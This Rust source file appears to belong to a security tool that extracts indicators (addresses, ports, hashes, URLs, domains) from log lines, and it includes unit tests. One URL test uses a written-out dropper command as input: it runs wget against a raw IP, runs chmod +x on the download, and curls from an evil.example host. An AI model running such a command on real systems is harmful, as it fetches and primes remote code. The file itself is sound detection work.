//! Indicator values taken out of text: free text (syslog and auditd lines, command lines,
//! a DNS answer list) and Sysmon's labelled hash lists.
//!
//! An address counts only when it stands on its own: the characters around it are not
//! letters, digits or `_` (so `v6.4.7` and `host1.2.3.4` are not addresses), and an IPv4
//! address must have four parts (`5.0.0.5355.2` is a version, not an address). A port
//! counts when it follows the address with a colon (`1.2.3.4:41445`, `[2001:db8::1]:443`);
//! auditd's hex `saddr=` socket addresses are decoded to address and port. A hash is a run
//! of exactly 32, 40 or 64 hex digits standing on its own.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use crate::indicator::IndicatorValue;
use crate::normalize::{canonical_ip, parse_hex, parse_ip, parse_port};

/// Calls `found` with each address in `text`, its port when one is written with it, and
/// the text it was read from (`1.2.3.4:41445`).
pub fn for_each_address(text: &str, mut found: impl FnMut(IpAddr, Option<u16>, &str)) {
    let bytes = text.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        let at_boundary = i == 0 || !is_word_byte(bytes[i - 1]);
        if b == b'[' && at_boundary {
            // `[v6]` or `[v6]:port`.
            if let Some(close) = bytes[i + 1..].iter().take(48).position(|&c| c == b']') {
                let inner = &text[i + 1..i + 1 + close];
                let after = i + 2 + close;
                if inner.contains(':')
                    && let Some(addr) = parse_ip(inner)
                {
                    let (port, end) = port_after(text, after);
                    if end >= bytes.len() || !is_word_byte(bytes[end]) {
                        found(addr, port, &text[i..end]);
                        i = end;
                        continue;
                    }
                }
            }
            i += 1;
            continue;
        }
        if !is_address_byte(b) {
            i += 1;
            continue;
        }
        let start = i;
        while i < bytes.len() && is_address_byte(bytes[i]) {
            i += 1;
        }
        if !at_boundary || (i < bytes.len() && is_word_byte(bytes[i])) {
            continue;
        }
        if text[..start].ends_with("saddr=") {
            if let Some((addr, port)) = decode_sockaddr(&text[start..i]) {
                let observed = observed_with_port(addr, port);
                found(addr, Some(port), &observed);
            }
            continue;
        }
        let run = text[start..i].trim_end_matches(['.', ':']);
        read_address_run(run, &mut found);
    }
}

/// Reads one run of address characters: an IPv4 address with or without a port, or an
/// IPv6 address.
fn read_address_run(run: &str, found: &mut impl FnMut(IpAddr, Option<u16>, &str)) {
    let colons = run.bytes().filter(|&b| b == b':').count();
    let has_dot = run.contains('.');
    if colons == 0 && has_dot {
        if let Ok(v4) = run.parse::<Ipv4Addr>() {
            found(IpAddr::V4(v4), None, run);
        }
    } else if colons == 1 && has_dot {
        let (addr, port) = run.split_once(':').expect("one colon");
        if let Ok(v4) = addr.parse::<Ipv4Addr>() {
            found(IpAddr::V4(v4), parse_port(port), run);
        }
    } else if colons >= 2
        && let Ok(v6) = run.parse::<Ipv6Addr>()
    {
        found(canonical_ip(IpAddr::V6(v6)), None, run);
    }
}

/// The port written as `:digits` at `pos`, and the offset after it.
fn port_after(text: &str, pos: usize) -> (Option<u16>, usize) {
    let bytes = text.as_bytes();
    if bytes.get(pos) != Some(&b':') {
        return (None, pos);
    }
    let digits = bytes[pos + 1..]
        .iter()
        .take_while(|b| b.is_ascii_digit())
        .count();
    match parse_port(&text[pos + 1..pos + 1 + digits]) {
        Some(port) => (Some(port), pos + 1 + digits),
        None => (None, pos),
    }
}

/// auditd's `saddr=` is a `struct sockaddr` in hex: family (little-endian), port
/// (big-endian), then the IPv4 address, or flow info and the IPv6 address.
fn decode_sockaddr(hex: &str) -> Option<(IpAddr, u16)> {
    let byte = |n: usize| parse_hex::<1>(hex.get(2 * n..2 * n + 2)?).map(|b| b[0]);
    let port = |_: ()| Some(u16::from_be_bytes([byte(2)?, byte(3)?]));
    match (byte(0)?, byte(1)?) {
        (2, 0) if hex.len() >= 16 => {
            let addr = Ipv4Addr::new(byte(4)?, byte(5)?, byte(6)?, byte(7)?);
            Some((IpAddr::V4(addr), port(())?))
        }
        (10, 0) if hex.len() >= 48 => {
            let bytes: [u8; 16] = parse_hex(&hex[16..48])?;
            Some((canonical_ip(IpAddr::V6(Ipv6Addr::from(bytes))), port(())?))
        }
        _ => None,
    }
}

/// The address part of what [`for_each_address`] reports: `1.2.3.4` of `1.2.3.4:80`,
/// `2001:db8::1` of `[2001:db8::1]:443`; an address without a port as it is.
pub fn without_port(seen: &str) -> &str {
    if let Some(rest) = seen.strip_prefix('[') {
        return rest.split_once(']').map_or(rest, |(addr, _)| addr);
    }
    match seen.split_once(':') {
        // One colon: IPv4 with a port. More: an IPv6 address, which has no port here.
        Some((addr, port)) if !port.contains(':') => addr,
        _ => seen,
    }
}

fn observed_with_port(addr: IpAddr, port: u16) -> String {
    match addr {
        IpAddr::V4(v4) => format!("{v4}:{port}"),
        IpAddr::V6(v6) => format!("[{v6}]:{port}"),
    }
}

/// Calls `found` with each MD5, SHA-1 or SHA-256 in `text`: runs of exactly 32, 40 or 64
/// hex digits standing on their own. Hex that auditd uses to encode socket addresses and
/// process titles (`saddr=`, `proctitle=`) is not a hash.
pub fn for_each_hash(text: &str, mut found: impl FnMut(IndicatorValue, &str)) {
    let bytes = text.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        if !bytes[i].is_ascii_hexdigit() || (i > 0 && is_word_byte(bytes[i - 1])) {
            i += 1;
            continue;
        }
        let start = i;
        while i < bytes.len() && bytes[i].is_ascii_hexdigit() {
            i += 1;
        }
        if i < bytes.len() && is_word_byte(bytes[i]) {
            continue;
        }
        let before = &text[..start];
        if before.ends_with("saddr=") || before.ends_with("proctitle=") {
            continue;
        }
        let run = &text[start..i];
        if let Some(value) = hash_value(run) {
            found(value, run);
        }
    }
}

/// Reads Sysmon's `Hashes` list, `SHA1=..,MD5=..,SHA256=..,IMPHASH=..`: the MD5, SHA-1 and
/// SHA-256 entries (labels in any case, `SHA-256` too); other labels (IMPHASH) are skipped.
pub fn for_each_labelled_hash(text: &str, mut found: impl FnMut(IndicatorValue, &str)) {
    for item in text.split([',', ';', ' ']) {
        let Some((label, hex)) = item.split_once('=') else {
            continue;
        };
        let label = label.trim();
        let value = if label.eq_ignore_ascii_case("md5") {
            parse_hex(hex).map(IndicatorValue::Md5)
        } else if label.eq_ignore_ascii_case("sha1") || label.eq_ignore_ascii_case("sha-1") {
            parse_hex(hex).map(IndicatorValue::Sha1)
        } else if label.eq_ignore_ascii_case("sha256") || label.eq_ignore_ascii_case("sha-256") {
            parse_hex(hex).map(IndicatorValue::Sha256)
        } else {
            None
        };
        if let Some(value) = value {
            found(value, hex.trim());
        }
    }
}

/// A hash value of any kind, told apart by its length.
pub fn hash_value(text: &str) -> Option<IndicatorValue> {
    match text.trim().len() {
        32 => parse_hex(text).map(IndicatorValue::Md5),
        40 => parse_hex(text).map(IndicatorValue::Sha1),
        64 => parse_hex(text).map(IndicatorValue::Sha256),
        _ => None,
    }
}

/// Calls `found` with each http, https or ftp URL in `text`: from the scheme up to
/// whitespace, a quote, an angle bracket, or the `;` and `|` that end a shell command
/// (`wget http://a.example/x;sh x`), without trailing sentence punctuation. Text without
/// `://` costs one search.
pub fn for_each_url<'t>(text: &'t str, mut found: impl FnMut(&'t str)) {
    let bytes = text.as_bytes();
    let mut from = 0;
    while let Some(at) = text[from..].find("://").map(|i| from + i) {
        let end = bytes[at..]
            .iter()
            .position(|&b| is_chunk_separator(b) || b == b';' || b == b'|')
            .map_or(bytes.len(), |n| at + n);
        let scheme_start = bytes[..at]
            .iter()
            .rposition(|b| !b.is_ascii_alphabetic())
            .map_or(0, |i| i + 1);
        let scheme = &text[scheme_start..at];
        let known = ["http", "https", "ftp"]
            .iter()
            .any(|s| scheme.eq_ignore_ascii_case(s));
        let url =
            text[scheme_start..end].trim_end_matches(['.', ',', ';', ':', '!', '?', ')', ']', '}']);
        if known && url.len() > at - scheme_start + 3 {
            found(url);
        }
        from = end.max(at + 3);
    }
}

/// Calls `found` with each domain name standing on its own in `text`: dot-separated labels
/// of letters, digits and `-`, the last one letters only (two or more, or an `xn--` name),
/// between whitespace, quotes, brackets, `=`, `,` or `;`. A name glued to `/`, `@`, `:`
/// or `_` is part of a longer token (a path, an address, a URL) and is not taken, and
/// chunks holding a URL are left to [`for_each_url`]. A port after the name is allowed.
pub fn for_each_domain<'t>(text: &'t str, mut found: impl FnMut(&'t str)) {
    let bytes = text.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        // One chunk between whitespace, quotes and angle brackets.
        if is_chunk_separator(bytes[i]) {
            i += 1;
            continue;
        }
        let start = i;
        let end = chunk_end(bytes, i);
        i = end;
        let chunk = &text[start..end];
        if !chunk.contains('.') || chunk.contains("://") {
            continue;
        }
        // Tokens of the chunk between the punctuation that may stand around a name.
        let mut token_start = start;
        for pos in start..=end {
            if pos < end && !is_token_separator(bytes[pos]) {
                continue;
            }
            let token = &text[token_start..pos];
            token_start = pos + 1;
            if let Some(name) = domain_token(token) {
                found(name);
            }
        }
    }
}

/// The domain name a token is, if it is one: trailing dots and a `:port` are dropped.
fn domain_token(token: &str) -> Option<&str> {
    let token = match token.rsplit_once(':') {
        Some((name, port)) if parse_port(port).is_some() => name,
        _ => token,
    };
    let name = token.trim_end_matches('.');
    if name.len() < 4 || name.len() > 253 || !name.contains('.') {
        return None;
    }
    let mut labels = name.split('.');
    let tld = labels.next_back()?;
    let tld_ok = (tld.len() >= 2 && tld.bytes().all(|b| b.is_ascii_alphabetic()))
        || (tld.len() > 4 && tld[..4].eq_ignore_ascii_case("xn--"));
    let label_ok = |l: &str| {
        !l.is_empty()
            && l.len() <= 63
            && !l.starts_with('-')
            && !l.ends_with('-')
            && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
    };
    (tld_ok && label_ok(tld) && labels.all(label_ok)).then_some(name)
}

/// Where the chunk holding `pos` ends: at whitespace, a quote or an angle bracket.
fn chunk_end(bytes: &[u8], pos: usize) -> usize {
    bytes[pos..]
        .iter()
        .position(|&b| is_chunk_separator(b))
        .map_or(bytes.len(), |n| pos + n)
}

fn is_chunk_separator(b: u8) -> bool {
    b.is_ascii_whitespace() || matches!(b, b'"' | b'\'' | b'`' | b'<' | b'>')
}

/// Punctuation a domain name may stand between inside a chunk (`host=a.example,`,
/// `(a.example)`). `:` is not one: a port is read with the name, and a name after a colon
/// is glued to what comes before it.
fn is_token_separator(b: u8) -> bool {
    matches!(
        b,
        b'=' | b',' | b';' | b'(' | b')' | b'[' | b']' | b'{' | b'}' | b'|'
    )
}

fn is_word_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b >= 0x80
}

fn is_address_byte(b: u8) -> bool {
    b.is_ascii_hexdigit() || b == b'.' || b == b':'
}

#[cfg(test)]
mod tests {
    use super::*;

    fn addresses(text: &str) -> Vec<String> {
        let mut out = Vec::new();
        for_each_address(text, |addr, port, seen| {
            out.push(match port {
                Some(p) => format!("{addr} {p} {seen}"),
                None => format!("{addr} - {seen}"),
            })
        });
        out
    }

    fn hashes(text: &str) -> Vec<String> {
        let mut out = Vec::new();
        for_each_hash(text, |v, _| out.push(v.to_string()));
        out
    }

    #[test]
    fn takes_addresses_and_ports_out_of_openvpn_lines() {
        assert_eq!(
            addresses(
                "Jun 21 11:17:33 demo-host.local openvpn[30264]: 1.2.3.4:41445 peer info: IV_VER=2.5"
            ),
            ["1.2.3.4 41445 1.2.3.4:41445"]
        );
        assert_eq!(
            addresses("TCP connection established with [AF_INET]1.2.3.4:41445"),
            ["1.2.3.4 41445 1.2.3.4:41445"]
        );
        assert_eq!(
            addresses(
                "demovpn/1.2.3.4:41445 MULTI_sva: pool returned IPv4=10.10.10.10, IPv6=(Not enabled)"
            ),
            ["1.2.3.4 41445 1.2.3.4:41445", "10.10.10.10 - 10.10.10.10"]
        );
    }

    #[test]
    fn versions_times_and_glued_words_are_not_addresses() {
        assert!(
            addresses("v6.4.7 5.0.0.5355.2 11:17:33 15:27:43.000 host1.2.3.4 1.2.3.4x").is_empty()
        );
        assert!(addresses("2018-05-24T00:07:26.106328Z localhost:8080 256.1.1.1").is_empty());
        assert_eq!(addresses("to 9.9.9.9."), ["9.9.9.9 - 9.9.9.9"]);
    }

    #[test]
    fn reads_ipv6_forms_and_mapped_addresses() {
        assert_eq!(
            addresses("type:  5 blob.store.core.windows.net;::ffff:52.239.252.68;"),
            ["52.239.252.68 - ::ffff:52.239.252.68"]
        );
        assert_eq!(
            addresses("from [2001:db8::1]:443 and fe80::1%eth0"),
            ["2001:db8::1 443 [2001:db8::1]:443", "fe80::1 - fe80::1"]
        );
        assert!(addresses("mac 00:11:22:33:44:55").is_empty());
    }

    #[test]
    fn decodes_auditd_socket_addresses() {
        assert_eq!(
            addresses(
                "type=SOCKADDR msg=audit(1723819442.459:2482681): saddr=02002BCB7F0000010000000000000000"
            ),
            ["127.0.0.1 11211 127.0.0.1:11211"]
        );
        assert_eq!(
            addresses("saddr=0A002BCB000000000000000000000000000000000000000100000000"),
            ["::1 11211 [::1]:11211"]
        );
        // The socket address is not also read as a hash.
        assert!(hashes("saddr=02002BCB7F0000010000000000000000").is_empty());
    }

    #[test]
    fn the_address_part_drops_the_port() {
        assert_eq!(without_port("1.2.3.4:80"), "1.2.3.4");
        assert_eq!(without_port("[2001:db8::1]:443"), "2001:db8::1");
        assert_eq!(without_port("2001:db8::1"), "2001:db8::1");
        assert_eq!(without_port("::ffff:1.2.3.4"), "::ffff:1.2.3.4");
        assert_eq!(without_port("1.2.3.4"), "1.2.3.4");
    }

    #[test]
    fn takes_hashes_of_exact_lengths_standing_alone() {
        let md5 = "72260ce9438a7a9a8a5ba101eda4d6bd";
        let sha1 = "090436b0679559cb2d5e863ad9c9135613f38d77";
        assert_eq!(
            hashes(&format!("md5={md5} x{md5} {md5}0 dl/{sha1}")),
            [md5, sha1]
        );
    }

    fn urls(text: &str) -> Vec<&str> {
        let mut out = Vec::new();
        for_each_url(text, |u| out.push(u));
        out
    }

    fn domains(text: &str) -> Vec<&str> {
        let mut out = Vec::new();
        for_each_domain(text, |d| out.push(d));
        out
    }

    #[test]
    fn takes_http_https_and_ftp_urls_up_to_whitespace_or_quote() {
        assert_eq!(
            urls(
                "cd /tmp; wget http://101.254.149.145:6636/tdff;chmod +x tdff|curl -O 'HTTPS://Evil.example/a?b=1'"
            ),
            [
                "http://101.254.149.145:6636/tdff",
                "HTTPS://Evil.example/a?b=1"
            ]
        );
        assert_eq!(
            urls("see (ftp://files.example/x.bin). url=http://a.example/p,"),
            ["ftp://files.example/x.bin", "http://a.example/p"]
        );
        // Other schemes, a bare `://` and a scheme glued to a word are not URLs we read.
        assert!(urls("tcp://1.2.3.4:80 ssh:// x:// ://a.example").is_empty());
        assert!(urls("no urls here, only evil.example").is_empty());
    }

    #[test]
    fn takes_domains_standing_on_their_own() {
        assert_eq!(
            domains(
                "Jun 21 11:17:33 demo-host.local sshd: query=Evil.Example. from a.b.evil.example:443,"
            ),
            ["demo-host.local", "Evil.Example", "a.b.evil.example"]
        );
        assert_eq!(
            domains("(xn--bcher-kva.example) [mirror.example.org]"),
            ["xn--bcher-kva.example", "mirror.example.org"]
        );
    }

    #[test]
    fn paths_versions_addresses_and_url_hosts_are_not_domains() {
        assert!(
            domains(
                "/usr/lib/libc.so.6 ./backup_script.sh v6.4.7 1.2.3.4 root@evil.example                  evil.example/bins ns:evil.example http://evil.example/x 2001:db8::1 x.1a"
            )
            .is_empty()
        );
        assert!(domains("IV_VER=2.5 openvpn[30264]: 11:17:33.000").is_empty());
    }

    #[test]
    fn labelled_hashes_skip_import_hashes() {
        let text = "SHA1=090436B0679559CB2D5E863AD9C9135613F38D77,MD5=72260CE9438A7A9A8A5BA101EDA4D6BD,SHA256=8A221672E37FD7F30D35B3466CA9F1A473F9A77C27A5A16C6392BCEECCAFEA6F,IMPHASH=2030E4162A477F77D0EF5A58D00FA094";
        let mut kinds = Vec::new();
        for_each_labelled_hash(text, |v, seen| kinds.push((v.kind().name(), seen.len())));
        assert_eq!(kinds, [("sha1", 40), ("md5", 32), ("sha256", 64)]);
    }
}
